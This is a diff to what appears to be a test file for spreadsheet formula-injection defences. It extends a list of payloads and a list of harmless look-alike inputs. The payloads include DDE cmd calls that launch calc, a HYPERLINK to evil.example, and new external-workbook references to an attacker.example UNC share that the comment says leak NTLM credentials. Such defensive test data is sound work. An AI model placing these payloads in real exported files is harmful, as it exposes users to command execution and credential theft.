@@ -31,6 +31,12 @@ PAYLOADS = [
     "\t=cmd|' /C calc'!A0",  # tab-prefixed
     '\r=HYPERLINK("http://evil.example")',  # CR-prefixed
     ' =cmd|" /C calc"!A0',  # space-prefixed
+    # another workbook, which Excel opens to show the cell (from a share: NTLM credentials)
+    "='\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1",
+    "+'\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1",
+    "='http://attacker.example/[Book2.xlsx]Sheet1'!A1",
+    "=[Book2.xlsx]Sheet1!A1",
+    "='C:\\Users\\me\\[Book2.xlsx]Sheet1'!A1",
 ]
 HARMLESS = [
     "-12.50",
@@ -46,6 +52,9 @@ HARMLESS = [
     "- what is DDE (dynamic data exchange)?",
     "a|b",
     "=1+1",
+    "=Sheet1!A1",
+    "- [x] done!",
+    "Great [really]! Thanks",
     "'=cmd|' /C calc'!A0",  # Excel shows a cell starting with ' as text
     "bob@example.com",
     "",
